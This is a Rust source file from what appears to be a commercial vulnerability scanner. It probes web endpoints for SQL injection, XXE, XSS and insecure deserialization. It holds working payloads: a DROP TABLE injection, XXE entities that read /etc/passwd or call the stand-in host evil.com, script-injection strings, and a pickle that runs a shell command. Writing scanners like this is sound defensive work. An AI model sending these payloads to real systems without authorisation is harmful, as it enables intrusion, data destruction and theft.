// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Injection Probes
 * SQL injection, XML external entities, cross-site scripting and
 * insecure deserialization
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use base64::{engine::general_purpose::STANDARD as BASE64, Engine as _};
use serde_json::json;
use tracing::{debug, info};

use crate::errors::ProbeResult;
use crate::probes::{attempt, excerpt, first_indicator, FindingCollector, Probe, ProbeContext};
use crate::types::{Finding, Severity};

const SQL_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "' UNION SELECT * FROM users --",
    "1' OR '1'='1' --",
];

const SQL_ERROR_SIGNATURES: &[&str] = &[
    "mysql_fetch",
    "ORA-01756",
    "Microsoft OLE DB",
    "SQLServer JDBC Driver",
    "PostgreSQL query failed",
    "Warning: mysql_",
    "valid MySQL result",
    "MySqlClient.",
];

const XXE_PAYLOADS: &[&str] = &[
    r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
    r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://evil.com/steal">]><foo>&xxe;</foo>"#,
];

const XML_ENDPOINTS: &[&str] = &["/api/xml", "/api/upload", "/api/parse", "/xml"];

const XXE_INDICATORS: &[&str] = &[
    "root:x:0:0:",
    "bin/bash",
    "etc/passwd",
    "file://",
    "http://evil.com",
];

pub(crate) const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "javascript:alert('XSS')",
    "<svg onload=alert('XSS')>",
    "';alert('XSS');//",
];

const DOM_SINKS: &[&str] = &["document.write", "innerHTML", "eval(", "setTimeout"];

/// Serialized java.util.HashMap, base64 as sent over the wire
const JAVA_SERIALIZED: &str = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAAEdGVzdHhwdA==";
const JAVA_ENDPOINTS: &[&str] = &["/api/serialize", "/api/deserialize", "/api/object"];

const PHP_SERIALIZED: &str = r#"O:8:"stdClass":1:{s:4:"test";s:4:"evil";}"#;
const PHP_ENDPOINTS: &[&str] = &["/api/session", "/api/cache", "/api/data"];

/// Protocol 0 pickle invoking eval on a harmless echo
const PICKLE_PAYLOAD: &[u8] = b"cbuiltins\neval\n(V__import__('os').system('echo vulnerable')\ntR.";
const PICKLE_ENDPOINTS: &[&str] = &["/api/pickle", "/api/session", "/api/cache"];

pub struct SqlInjectionProbe {
    ctx: ProbeContext,
}

impl SqlInjectionProbe {
    pub const NAME: &'static str = "owasp_sql_injection";

    pub fn new(ctx: ProbeContext) -> Self {
        Self { ctx }
    }
}

#[async_trait::async_trait]
impl Probe for SqlInjectionProbe {
    fn name(&self) -> &str {
        Self::NAME
    }

    async fn execute(&self) -> ProbeResult<Vec<Finding>> {
        self.ctx.baseline().await?;
        let mut found = FindingCollector::new(&self.ctx, Self::NAME);

        for &payload in SQL_PAYLOADS {
            let url = self.ctx.url_with_query("/api/users", &[("id", payload)]);
            let Some(response) = attempt("sql_injection", self.ctx.http.get(&url)).await else {
                continue;
            };
            if let Some(signature) = first_indicator(&response.body, SQL_ERROR_SIGNATURES) {
                info!("SQL error signature '{}' for payload {:?}", signature, payload);
                found.push(
                    "sql_injection",
                    Severity::High,
                    format!("SQL injection vulnerability detected with payload: {}", payload),
                    json!({
                        "payload": payload,
                        "signature": signature,
                        "response_status": response.status_code,
                        "response_content": excerpt(&response.body, 500),
                    }),
                );
            }
        }

        Ok(found.finish())
    }
}

pub struct XxeProbe {
    ctx: ProbeContext,
}

impl XxeProbe {
    pub const NAME: &'static str = "owasp_xml_external_entities";

    pub fn new(ctx: ProbeContext) -> Self {
        Self { ctx }
    }
}

#[async_trait::async_trait]
impl Probe for XxeProbe {
    fn name(&self) -> &str {
        Self::NAME
    }

    async fn execute(&self) -> ProbeResult<Vec<Finding>> {
        self.ctx.baseline().await?;
        let mut found = FindingCollector::new(&self.ctx, Self::NAME);

        for payload in XXE_PAYLOADS {
            for endpoint in XML_ENDPOINTS {
                let url = self.ctx.url(endpoint);
                let Some(response) = attempt(
                    "xxe",
                    self.ctx
                        .http
                        .post_with_content_type(&url, payload.as_bytes(), "application/xml"),
                )
                .await
                else {
                    continue;
                };

                if let Some(indicator) = first_indicator(&response.body, XXE_INDICATORS) {
                    found.push(
                        "xxe",
                        Severity::High,
                        format!("XXE vulnerability detected at {}", endpoint),
                        json!({
                            "payload": payload,
                            "endpoint": endpoint,
                            "indicator": indicator,
                            "response_status": response.status_code,
                            "response_content": excerpt(&response.body, 500),
                        }),
                    );
                }
            }
        }

        Ok(found.finish())
    }
}

pub struct CrossSiteScriptingProbe {
    ctx: ProbeContext,
}

impl CrossSiteScriptingProbe {
    pub const NAME: &'static str = "owasp_cross_site_scripting";

    pub fn new(ctx: ProbeContext) -> Self {
        Self { ctx }
    }

    async fn reflected(&self, payload: &str, found: &mut FindingCollector) {
        let url = self.ctx.url_with_query("/api/search", &[("q", payload)]);
        let Some(response) = attempt("reflected_xss", self.ctx.http.get(&url)).await else {
            return;
        };

        if response.contains(payload) {
            found.push(
                "reflected_xss",
                Severity::Medium,
                format!("Reflected XSS vulnerability with payload: {}", payload),
                json!({ "payload": payload, "response_status": response.status_code }),
            );
        }
    }

    async fn stored(&self, payload: &str, found: &mut FindingCollector) {
        let url = self.ctx.url("/api/comments");
        let body = json!({ "comment": payload, "name": "test", "email": "test@example.com" });
        let Some(posted) = attempt("stored_xss", self.ctx.http.post_json(&url, &body)).await else {
            return;
        };
        if posted.status_code != 200 {
            return;
        }

        let Some(listing) = attempt("stored_xss", self.ctx.http.get(&url)).await else {
            return;
        };
        if listing.contains(payload) {
            found.push(
                "stored_xss",
                Severity::High,
                format!("Stored XSS vulnerability with payload: {}", payload),
                json!({ "payload": payload, "response_status": posted.status_code }),
            );
        }
    }

    async fn dom(&self, payload: &str, found: &mut FindingCollector) {
        let url = self.ctx.url_with_query("/api/page", &[("fragment", payload)]);
        let Some(response) = attempt("dom_xss", self.ctx.http.get(&url)).await else {
            return;
        };

        // A sink alone is common in any script-heavy page; require the payload too
        if !response.contains(payload) {
            return;
        }
        if let Some(sink) = DOM_SINKS.iter().find(|sink| response.contains(sink)) {
            found.push(
                "dom_xss",
                Severity::Medium,
                format!("Potential DOM XSS vulnerability with payload: {}", payload),
                json!({
                    "payload": payload,
                    "sink": sink,
                    "response_status": response.status_code,
                }),
            );
        }
    }
}

#[async_trait::async_trait]
impl Probe for CrossSiteScriptingProbe {
    fn name(&self) -> &str {
        Self::NAME
    }

    async fn execute(&self) -> ProbeResult<Vec<Finding>> {
        self.ctx.baseline().await?;
        let mut found = FindingCollector::new(&self.ctx, Self::NAME);

        for payload in XSS_PAYLOADS {
            self.reflected(payload, &mut found).await;
            self.stored(payload, &mut found).await;
            self.dom(payload, &mut found).await;
        }

        debug!("XSS probe finished with {} findings", found.len());
        Ok(found.finish())
    }
}

pub struct InsecureDeserializationProbe {
    ctx: ProbeContext,
}

impl InsecureDeserializationProbe {
    pub const NAME: &'static str = "owasp_insecure_deserialization";

    pub fn new(ctx: ProbeContext) -> Self {
        Self { ctx }
    }

    async fn java(&self, found: &mut FindingCollector) {
        for endpoint in JAVA_ENDPOINTS {
            let url = self.ctx.url(endpoint);
            let response = attempt(
                "java_deserialization",
                self.ctx.http.post_with_content_type(
                    &url,
                    JAVA_SERIALIZED.as_bytes(),
                    "application/octet-stream",
                ),
            )
            .await;

            if let Some(response) = response.filter(|r| r.status_code == 200) {
                found.push(
                    "java_deserialization",
                    Severity::Critical,
                    format!("Java deserialization vulnerability at {}", endpoint),
                    json!({ "endpoint": endpoint, "response_status": response.status_code }),
                );
                return;
            }
        }
    }

    async fn php(&self, found: &mut FindingCollector) {
        for endpoint in PHP_ENDPOINTS {
            let url = self.ctx.url(endpoint);
            let response = attempt(
                "php_deserialization",
                self.ctx.http.post_form(&url, PHP_SERIALIZED),
            )
            .await;

            if let Some(response) = response.filter(|r| r.status_code == 200) {
                found.push(
                    "php_deserialization",
                    Severity::High,
                    format!("PHP deserialization vulnerability at {}", endpoint),
                    json!({ "endpoint": endpoint, "response_status": response.status_code }),
                );
                return;
            }
        }
    }

    async fn pickle(&self, found: &mut FindingCollector) {
        let body = json!({ "data": BASE64.encode(PICKLE_PAYLOAD) });
        for endpoint in PICKLE_ENDPOINTS {
            let url = self.ctx.url(endpoint);
            let response = attempt("python_pickle", self.ctx.http.post_json(&url, &body)).await;

            if let Some(response) = response.filter(|r| r.status_code == 200) {
                found.push(
                    "python_pickle",
                    Severity::Critical,
                    format!("Python pickle deserialization vulnerability at {}", endpoint),
                    json!({ "endpoint": endpoint, "response_status": response.status_code }),
                );
                return;
            }
        }
    }
}

#[async_trait::async_trait]
impl Probe for InsecureDeserializationProbe {
    fn name(&self) -> &str {
        Self::NAME
    }

    async fn execute(&self) -> ProbeResult<Vec<Finding>> {
        self.ctx.baseline().await?;
        let mut found = FindingCollector::new(&self.ctx, Self::NAME);

        self.java(&mut found).await;
        self.php(&mut found).await;
        self.pickle(&mut found).await;

        Ok(found.finish())
    }
}
